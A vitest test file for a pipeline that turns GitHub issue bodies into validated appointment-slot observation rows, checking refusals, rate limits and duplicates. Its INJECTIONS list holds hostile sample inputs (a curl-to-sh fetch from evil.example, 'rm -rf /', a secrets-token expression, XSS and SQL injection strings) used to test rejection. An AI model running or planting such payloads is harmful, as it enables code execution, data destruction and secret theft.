/** The observation workflow's record step: untrusted issue bodies become one validated row or a refusal. */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { formatParisTimestamp } from '../../src/lib/calendar.ts';
import { formatBlock, type ObservationBlock } from '../../src/lib/observation-block.ts';
import { recordIssueObservation, readIssueEvent, type IssueEvent } from '../../src/pipeline/issue-observation.ts';

const REGISTRY = `department,slug,prefecture,procedure,system,url
54,demarche-3771,Préfecture de Meurthe-et-Moselle,Titre de séjour,rdv-prefecture,https://www.rdv-prefecture.interieur.gouv.fr/rdvpref/reservation/demarche/3771/
`;
const NOW = new Date('2026-05-18T10:00:00Z');
const block = (fields: Partial<ObservationBlock> = {}): string =>
  formatBlock({
    version: '1',
    demarche: '3771',
    observed_at: formatParisTimestamp(new Date(NOW.getTime() - 20 * 60_000)),
    outcome: 'slots',
    first_date: '2026-06-02',
    second_date: '',
    last_publication: '',
    next_publication: '2026-05-25T11:58:00+02:00',
    ...fields,
  });
const event = (
  body: string | null,
  number = 41,
  homepage: string | null = 'https://guichets.example/base/',
): IssueEvent => ({
  issue: { number, body, created_at: NOW.toISOString(), user: { login: 'someone' }, labels: [{ name: 'observation' }] },
  repository: { homepage },
});

let dataDir: string;
beforeEach(() => {
  dataDir = mkdtempSync(path.join(tmpdir(), 'observations-'));
  writeFileSync(path.join(dataDir, 'procedures.csv'), REGISTRY);
});
afterEach(() => rmSync(dataDir, { recursive: true, force: true }));

/** Every observation file's text, concatenated. */
function storedText(): string {
  const directory = path.join(dataDir, 'observations', '54', 'demarche-3771');
  try {
    return readdirSync(directory)
      .filter((name) => name.endsWith('.csv'))
      .map((name) => readFileSync(path.join(directory, name), 'utf8'))
      .join('');
  } catch {
    return '';
  }
}

const INJECTIONS = [
  '$(curl https://evil.example | sh)',
  '`rm -rf /`',
  '${{ secrets.GITHUB_TOKEN }}',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[lien](javascript:alert(1))',
  '"; DROP TABLE x; --',
  '\u202e\u0000',
];

describe('issue bodies', () => {
  test('an issue form body gives one row, linked from the answer', async () => {
    const body = `### Observation\n\n\`\`\`text\n${block()}\n\`\`\``;
    const decision = await recordIssueObservation(event(body), dataDir, NOW, 0);
    expect(decision).toMatchObject({ issue: 41, accepted: true });
    expect(decision.comment).toContain('(https://guichets.example/base/54/demarche-3771/#observations)');
    expect(storedText().trim().split('\n')).toEqual([
      'observed_at,outcome,first_date,second_date,last_publication,next_publication,source,reference',
      '2026-05-18T11:40:00+02:00,slots,2026-06-02,,,2026-05-25T11:58:00+02:00,volunteer,issue:41',
    ]);
  });

  test('without a website setting the answer names the page without inventing an address', async () => {
    const decision = await recordIssueObservation(event(block(), 41, null), dataDir, NOW, 0);
    expect(decision.comment).toContain('`/54/demarche-3771/`');
    expect(decision.comment).not.toContain('http');
  });

  test.each(INJECTIONS)('text around the block is never stored nor repeated: %s', async (payload) => {
    const decision = await recordIssueObservation(event(`${payload}\n${block()}\n${payload}`), dataDir, NOW, 0);
    expect(decision.accepted).toBe(true);
    expect(storedText()).not.toContain(payload.trim());
    expect(decision.comment).not.toContain(payload.trim());
  });

  test.each(
    INJECTIONS.flatMap((payload) => [
      ['demarche', payload],
      ['first_date', payload],
      ['next_publication', payload],
    ]),
  )('a value %s = %s refuses the block, stores nothing and is not repeated', async (key, payload) => {
    const body = block().replace(new RegExp(`^${key}: .*$`, 'm'), `${key}: ${payload}`);
    const decision = await recordIssueObservation(event(body), dataDir, NOW, 0);
    expect(decision.accepted).toBe(false);
    expect(storedText()).toBe('');
    expect(decision.comment).not.toContain(payload.trim());
  });

  test.each([
    ['no block', 'Bonjour, je n’ai pas trouvé de créneau.', 'aucun bloc'],
    ['an empty body', null, 'aucun bloc'],
    ['two blocks', `${block()}\n${block({ outcome: 'none', first_date: '' })}`, 'plusieurs blocs'],
    ['an unknown démarche', block({ demarche: '1' }), 'n° 1 ne correspond'],
    ['too many reports this hour', block(), 'au plus 3 observations'],
  ])('%s is refused with its reason', async (_, body, reason) => {
    const decision = await recordIssueObservation(event(body), dataDir, NOW, reason.startsWith('au plus') ? 3 : 0);
    expect(decision.accepted).toBe(false);
    expect(decision.comment).toContain(reason);
    expect(storedText()).toBe('');
  });

  test('editing an accepted issue adds no second row', async () => {
    expect((await recordIssueObservation(event(block()), dataDir, NOW, 0)).accepted).toBe(true);
    const again = await recordIssueObservation(event(block({ first_date: '2026-06-03' })), dataDir, NOW, 0);
    expect(again.accepted).toBe(false);
    expect(again.comment).toContain('déjà enregistrée');
    expect(storedText().trim().split('\n')).toHaveLength(2);
  });

  test('the same report from another issue is a duplicate', async () => {
    await recordIssueObservation(event(block(), 41), dataDir, NOW, 0);
    const decision = await recordIssueObservation(event(block(), 42), dataDir, NOW, 0);
    expect(decision.comment).toContain('déjà enregistrée (même démarche, même minute, même contenu)');
  });

  test('an event without the observation label is ignored', () => {
    const file = path.join(dataDir, 'event.json');
    writeFileSync(
      file,
      JSON.stringify({ ...event(block()), issue: { ...event(block()).issue, labels: [{ name: 'bug' }] } }),
    );
    expect(readIssueEvent(file)).toBeNull();
    writeFileSync(file, JSON.stringify(event(block())));
    expect(readIssueEvent(file)?.issue.number).toBe(41);
  });
});
